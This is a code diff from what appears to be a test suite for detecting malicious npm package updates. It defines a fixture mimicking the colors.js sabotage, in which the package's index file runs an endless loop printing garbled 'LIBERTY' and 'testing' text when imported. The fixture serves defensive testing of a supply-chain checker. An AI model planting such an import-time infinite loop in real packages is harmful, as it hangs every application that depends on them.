@@ -137,15 +137,16 @@ internal static class NpmEarlyAttacks
         yield return new("colors", "colors / faker", "H14", colors with
         {
             Version = "1.4.44-liberty-2",
-            Files = [("lib/index.js", colors.Files[0].Text + "require('./custom/american')();\n"), ("lib/custom/american.js", """
-                module.exports = function () {
-                  console.log('LIBERTY LIBERTY LIBERTY');
-                  let flag = '\u0337\u0338';
-                  for (let i = 666; i < Infinity; i++) {
-                    if (i % 333) { }
-                    console.log('testing testing testing'.split('').map(c => c + flag).join(''));
-                  }
-                };
+            Files = [("lib/index.js", colors.Files[0].Text + """
+                let am = require('./custom/american');
+                am();
+                for (let i = 666; i < Infinity; i++) {
+                  if (i % 333) { }
+                  console.log('testing testing testing'.split('').map(c => c + '\u0337').join(''));
+                }
+
+                """), ("lib/custom/american.js", """
+                module.exports = function () { console.log('LIBERTY LIBERTY LIBERTY'); };
 
                 """)],
         }) { Earlier = colors, Twin = NpmTwins.Client, Expect = Expectation.Held };
